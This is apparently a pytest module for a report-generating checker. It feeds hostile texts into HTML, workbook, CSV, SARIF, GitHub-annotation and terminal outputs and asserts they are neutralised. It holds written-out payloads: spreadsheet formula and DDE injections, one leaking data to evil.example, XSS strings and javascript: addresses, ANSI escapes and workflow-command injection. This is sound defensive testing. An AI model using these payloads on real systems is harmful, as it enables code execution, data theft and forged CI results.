"""Hostile round sixteen: what a descriptor's texts can do to the reports made from it.

One batch of generated descriptors carries hostile text in every place a report shows (id, title, summary,
provider name, country, an unknown field's name, a value quoted by a finding, the web addresses) and is rendered
into every output from one run each: ``audit --out`` with ``--dataset`` (HTML pages, workbook, JSON, CSV),
``check --format sarif|github|json|jsonl|text`` and the web page. The texts: formula starts (``=HYPERLINK``,
``+cmd|``, ``@SUM``, ``-2+3``, and ``=`` after a tab, a carriage return, a line break, spaces or a no-break
space, which LibreOffice and Google Sheets trim on import), markup that would close an attribute or open an
element (script, SVG, an image with a handler, a style attribute), ``javascript:`` and ``data:`` addresses,
bidirectional overrides and characters that show as nothing, ANSI escapes, GitHub workflow commands (``::``,
``%0A``), a title of 20,000 characters with no space, an offering of 3,000 outcomes, and provider names that read
as the reports' own placeholder for a descriptor naming none ("(provider not given)", and in German).

Every assertion reads the rendered bytes with a real parser: openpyxl for cell types and values, ``csv`` for
the dataset, :class:`html.parser.HTMLParser` for elements and attributes, ``json`` for JSON and SARIF.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner

from qa_checker.cells import BIDI_CONTROLS, FORMULA_START, SHOWS_AS_NOTHING
from qa_checker.cli import cli
from tests.conftest import NOW, baseline, zip_of
from tests.reporting.helpers import NOW_TEXT, write_json

PLACEHOLDER = "(provider not given)"
PLACEHOLDER_DE = "(Anbieter nicht angegeben)"
LONG = "W" * 20_000
PIECES = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "dde": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "lf": "\n=1+1",
    "spaces": "   =1+1",
    "nbsp": "\u00a0=1+1",
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "single": "' onmouseover='alert(1)",
    "svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>',
    "style": '" style="position:fixed;inset:0;background:url(javascript:alert(1))',
    "comment": "<!-- --><iframe src=javascript:alert(1)>",
    "template": "{{ 7*7 }}{% raw %}%(title)s",
    "bidi": "Data \u202escihtE\u202c",
    "isolate": "ACME \u2067Corp\u2069",
    "hidden": "MC\u200b-1\ufeff",
    "ansi": "\x1b[2J\x1b[31mPASS\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "workflow": "x\n::set-output name=verdict::pass\n::add-mask::secret",
    "percent": "x%0A::error file=a.yaml::pwned%0D%25",
    "long": LONG,
    "placeholder": PLACEHOLDER,
    "placeholder_de": PLACEHOLDER_DE,
}
URLS = (
    "javascript:alert(document.cookie)",
    " JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
)
# What a hostile text must never become: an element, an event handler, an address that runs or carries a page.
FOREIGN_TAGS = {"img", "iframe", "object", "embed", "base", "frame", "frameset", "applet", "math", "video", "audio"}
RUNNING = re.compile(r"^\s*(javascript|vbscript|data):", re.IGNORECASE)
UNSEEN = re.compile(f"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f{BIDI_CONTROLS}{SHOWS_AS_NOTHING}]")


def _descriptor(index: int, name: str, text: str) -> dict[str, Any]:
    data = baseline()
    data["id"] = f"r16-{index}-{text}"
    data["title"] = {"en": text}
    data["summary"] = {"en": text}
    body = data["awarding_bodies"][0]
    body["name"] = {"en": text}
    body["country"] = text[:40]
    body["url"] = URLS[index % len(URLS)]
    data["further_information"] = URLS[(index + 1) % len(URLS)]
    data["participation"]["mode"] = text[:200]
    data[f"{text[:100]}-{index}"] = text
    return data


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The batch, and every output of it: ``audit`` (with the dataset), each ``check`` format, the web page."""
    root = tmp_path_factory.mktemp("round16")
    given = root / "in"
    for index, (name, text) in enumerate(PIECES.items()):
        write_json(given / f"{index:02d}-{name}.json", _descriptor(index, name, text))
    nameless = baseline()
    nameless["id"] = "r16-nameless"
    del nameless["awarding_bodies"]
    write_json(given / "nameless.json", nameless)
    crowded = baseline()
    crowded["id"] = "r16-crowded"
    crowded["learning_outcomes"] = [{"en": f"Understand <b>topic</b> {i} =A{i}"} for i in range(3_000)]
    write_json(given / "crowded.json", crowded)
    runner = CliRunner()
    audit = ["audit", str(given), "--out", str(root / "audit"), "--dataset", str(root / "audit" / "set.csv")]
    done = runner.invoke(cli, [*audit, "--now", NOW_TEXT, "--no-progress", "-j", "1"])
    assert done.exit_code == 1, done.output
    for fmt in ("sarif", "github", "json", "jsonl", "text"):
        command = ["check", str(given), "--format", fmt, "-o", str(root / f"check.{fmt}"), "--color", "never"]
        done = runner.invoke(cli, [*command, "--now", NOW_TEXT, "-j", "1"])
        assert done.exit_code == 1, (fmt, done.output)
    write_json(root / "before" / "nameless.json", nameless)
    diff = ["diff", str(root / "before"), str(given), "--format", "html", "-o", str(root / "diff.html")]
    done = runner.invoke(cli, [*diff, "--now", NOW_TEXT])
    assert done.exit_code in (0, 1), done.output
    (root / "web.html").write_text(_web_page(given), encoding="utf-8")
    return root


def _web_page(given: Path) -> str:
    from starlette.testclient import TestClient

    from qa_checker.web import application

    app = application.create_app(application.Settings.from_env({}, workers=1, now=NOW))
    files = [("files", ("batch.zip", zip_of({p.name: p.read_bytes() for p in sorted(given.iterdir())})))]
    with TestClient(app) as client:
        token = client.get("/").cookies["qa_checker_csrf"]
        answer = client.post("/check", files=files, data={"csrf": token}, headers={"origin": "http://testserver"})
    assert answer.status_code == 200, answer.text[:500]
    return answer.text


def _pages(out: Path) -> Iterator[Path]:
    yield out / "audit" / "report.html"
    yield from sorted((out / "audit" / "report-pages").glob("*.html"))
    yield out / "diff.html"
    yield out / "web.html"


class _Elements(HTMLParser):
    """Every start tag with its attributes, and the text outside script and style."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []
        self._raw = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))
        self._raw += tag in ("script", "style")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_endtag(self, tag: str) -> None:
        self._raw -= tag in ("script", "style") and self._raw > 0

    def handle_data(self, data: str) -> None:
        if not self._raw:
            self.text.append(data)


def _parsed(path: Path) -> _Elements:
    parser = _Elements()
    parser.feed(path.read_text(encoding="utf-8"))
    parser.close()
    return parser


def test_no_html_page_gets_an_element_a_handler_or_an_address_from_a_descriptor(out: Path) -> None:
    for path in _pages(out):
        page = _parsed(path)
        tags = [tag for tag, _ in page.tags]
        assert not FOREIGN_TAGS & set(tags), (path.name, FOREIGN_TAGS & set(tags))
        assert tags.count("script") <= 1, path.name  # the page's own, inline, if any
        for tag, attrs in page.tags:
            for name, value in attrs:
                assert not name.startswith("on"), (path.name, tag, name)
                if name in ("href", "src", "action", "formaction", "xlink:href"):
                    # The web page's own icon is the empty "data:,", so no browser asks for one.
                    assert not RUNNING.match(value or "") or value == "data:,", (path.name, tag, name, value)
                if name == "style":
                    assert re.fullmatch(r"width: \d+(\.\d+)?%", value or ""), (path.name, tag, value)
                if tag == "script":
                    assert name not in ("src", "type"), (path.name, name, value)


def test_the_hostile_texts_are_shown_as_text_on_the_pages(out: Path) -> None:
    report = _parsed(out / "audit" / "report.html")
    pages = "".join("".join(_parsed(p).text) for p in sorted((out / "audit" / "report-pages").glob("*.html")))
    web = "".join(_parsed(out / "web.html").text)
    for name in ("script", "attribute", "svg", "comment", "template"):
        shown = PIECES[name]
        assert shown in "".join(report.text) + pages, name
        assert shown in web, name
    assert "javascript:alert(document.cookie)" in pages  # quoted by its finding, never a link


def test_no_page_text_is_reordered_or_hidden_by_a_control(out: Path) -> None:
    for path in _pages(out):
        text = "".join(_parsed(path).text)
        assert not UNSEEN.search(text), (path.name, UNSEEN.search(text))
        assert "\x1b" not in path.read_text(encoding="utf-8"), path.name


def test_no_workbook_cell_is_a_formula_or_starts_one_after_blanks(out: Path) -> None:
    book = openpyxl.load_workbook(out / "audit" / "report.xlsx")
    texts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts += 1
                    value = cell.value
                    assert not value.lstrip().startswith(FORMULA_START) or value.startswith("'"), (
                        sheet.title,
                        cell.coordinate,
                        value[:60],
                    )
                    assert not UNSEEN.search(value), (sheet.title, cell.coordinate, value[:60])
                    assert len(value.encode("utf-16-le")) <= 2 * 32_767, (sheet.title, cell.coordinate)
    assert texts > 1_000


@pytest.mark.parametrize("name", ["hyperlink", "dde", "at", "minus", "tab", "cr", "lf", "spaces", "nbsp"])
def test_each_formula_start_is_neutralised_in_the_workbook_and_the_dataset(out: Path, name: str) -> None:
    file = f"{list(PIECES).index(name):02d}-{name}.json"
    neutral = {"'" + PIECES[name], "'" + PIECES[name].replace("\r", "\n")}
    book = openpyxl.load_workbook(out / "audit" / "report.xlsx")
    rows = [row for row in book["Descriptors"].iter_rows(values_only=True) if str(row[0]).endswith(file)]
    assert len(rows) == 1 and neutral & set(rows[0]), (name, rows)
    with (out / "audit" / "set.csv").open(encoding="utf-8", newline="") as opened:
        titles = [r["title"] for r in csv.DictReader(opened) if r["source"].endswith(file)]
    assert titles == ["'" + PIECES[name]], (name, titles)


def test_no_dataset_field_starts_a_formula_after_blanks(out: Path) -> None:
    with (out / "audit" / "set.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert len(rows) == len(PIECES) + 3  # the header, every descriptor, and no row a line break started
    for row in rows:
        for value in row:
            assert not value.lstrip().startswith(FORMULA_START) or value.startswith("'"), value[:60]


def test_sarif_and_json_stay_valid_and_keep_every_text_exactly(out: Path) -> None:
    report = json.loads((out / "check.json").read_text(encoding="utf-8"))
    ids = {r["id"] for r in report["results"]}
    assert {f"r16-{i}-{text}" for i, text in enumerate(PIECES.values())} <= ids
    lines = (out / "check.jsonl").read_text(encoding="utf-8").splitlines()
    assert {json.loads(line)["id"] for line in lines if line.startswith('{"source"')} == ids
    sarif = json.loads((out / "check.sarif").read_text(encoding="utf-8"))
    results = sarif["runs"][0]["results"]
    assert len(results) == sum(len(r["findings"]) for r in report["results"])
    for result in results:
        assert re.fullmatch(r"MC-[A-Z]{2}-\d{3}", result["ruleId"])
        assert isinstance(result["message"]["text"], str)


def test_each_github_annotation_is_one_command_whatever_the_texts(out: Path) -> None:
    lines = (out / "check.github").read_text(encoding="utf-8").split("\n")
    assert lines[-1] == ""
    report = json.loads((out / "check.json").read_text(encoding="utf-8"))
    assert len(lines) - 1 == sum(len(r["findings"]) for r in report["results"])
    for line in lines[:-1]:
        command = re.match(r"::(error|warning|notice) ((?:\w+=[^,:\r\n]*)(?:,\w+=[^,:\r\n]*)*)::", line)
        assert command, line[:200]
        assert "\r" not in line and "::set-output" not in line[: command.end()]
        assert not re.search("%(?!0A|0D|25|3A|2C)", line[: command.end()]), line[:200]


def test_the_terminal_gets_no_escape_and_no_line_from_a_text(out: Path) -> None:
    text = (out / "check.text").read_text(encoding="utf-8")
    assert not UNSEEN.search(text), UNSEEN.search(text)
    lines = text.splitlines()
    assert not [line for line in lines if line.lstrip().startswith(("::", "=1+1", "PASS\\x1b"))]
    heads = [line for line in lines if re.match(r"(PASS|FAIL|ERROR) \S*in/", line)]
    assert len(heads) == len(PIECES) + 2


def test_thousands_of_findings_stay_bounded_in_every_report(out: Path) -> None:
    report = json.loads((out / "check.json").read_text(encoding="utf-8"))
    crowded = next(r for r in report["results"] if r["id"] == "r16-crowded")
    per_rule: dict[str, int] = {}
    for finding in crowded["findings"]:
        per_rule[finding["rule"]] = per_rule.get(finding["rule"], 0) + 1
    assert max(per_rule.values()) <= 101, per_rule
    sizes = {p.name: p.stat().st_size for p in _pages(out)}
    assert max(sizes.values()) < 4_000_000, sizes


def test_a_provider_named_as_the_placeholder_is_a_provider_of_its_own(out: Path) -> None:
    report = json.loads((out / "audit" / "report.json").read_text(encoding="utf-8"))
    groups = {g["provider"]: g["sources"] for g in report["run"]["providers"]}
    assert [Path(s).name for s in groups[None]] == ["nameless.json"]
    assert [Path(s).name for s in groups[PLACEHOLDER]] == [f"{list(PIECES).index('placeholder'):02d}-placeholder.json"]
    assert report["run"]["providers"][-1]["provider"] is None  # the group naming none comes last
    options = [
        "".join(_parsed(out / "audit" / "report.html").text).count(shown)
        for shown in (f"\u201c{PLACEHOLDER}\u201d", PLACEHOLDER)
    ]
    assert options[0] >= 1 and options[1] > options[0]
    book = openpyxl.load_workbook(out / "audit" / "report.xlsx")
    firsts = [row[0] for row in book["Summary"].iter_rows(values_only=True) if row and isinstance(row[0], str)]
    assert firsts.count(PLACEHOLDER) == 1 and firsts.count(f"\u201c{PLACEHOLDER}\u201d") == 1


def test_in_german_the_german_placeholder_is_the_one_quoted(tmp_path: Path) -> None:
    for index, name in enumerate((None, PLACEHOLDER, PLACEHOLDER_DE)):
        data = baseline()
        data["id"] = f"p{index}"
        if name is None:
            del data["awarding_bodies"]
        else:
            data["awarding_bodies"][0]["name"] = {"en": name}
        write_json(tmp_path / "in" / f"p{index}.json", data)
    command = ["audit", str(tmp_path / "in"), "--out", str(tmp_path / "out"), "--lang", "de", "--now", NOW_TEXT]
    done = CliRunner().invoke(cli, [*command, "--no-progress", "-j", "1"])
    assert done.exit_code in (0, 1), done.output
    book = openpyxl.load_workbook(tmp_path / "out" / "report.xlsx")
    firsts = {row[0] for row in book.worksheets[0].iter_rows(values_only=True) if row and isinstance(row[0], str)}
    assert {PLACEHOLDER_DE, f"\u201c{PLACEHOLDER_DE}\u201d", f"\u201c{PLACEHOLDER}\u201d"} <= firsts
    assert f"\u201c{PLACEHOLDER_DE}\u201d" in (tmp_path / "out" / "report.html").read_text(encoding="utf-8")


CHROMIUM = shutil.which("chromium") or ("/usr/bin/chromium" if Path("/usr/bin/chromium").exists() else None)


@pytest.mark.browser
@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
@pytest.mark.parametrize("width", [1280, 390])
def test_a_title_of_20000_characters_widens_no_page_nor_any_table_past_its_box(out: Path, width: int) -> None:
    sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed (pip install '.[test]')")
    widest = "Math.max(...[...document.querySelectorAll('table')].map(t => t.getBoundingClientRect().width))"
    measured = {}
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        page = browser.new_page(viewport={"width": width, "height": 900})
        for path in _pages(out):
            page.goto(path.as_uri())
            measured[path.name] = (page.evaluate("document.documentElement.scrollWidth"), page.evaluate(widest))
        browser.close()
    assert {name: scroll for name, (scroll, _) in measured.items()} == dict.fromkeys(measured, width)
    # A table wider than the page scrolls in its box; none is made as wide as the one long word.
    assert max(table for _, table in measured.values()) < 2_000, measured


def test_the_diff_of_a_report_keeps_the_provider_named_as_the_placeholder_apart(out: Path) -> None:
    report = str(out / "audit" / "report.json")
    done = CliRunner().invoke(cli, ["diff", report, report, "--format", "json", "--now", NOW_TEXT])
    assert done.exit_code == 0, done.output
    providers = {p["provider"]: p["after"]["descriptors"] for p in json.loads(done.output)["providers"]}
    assert providers[None] == 1 and providers[PLACEHOLDER] == 1
    assert list(providers)[-1] is None
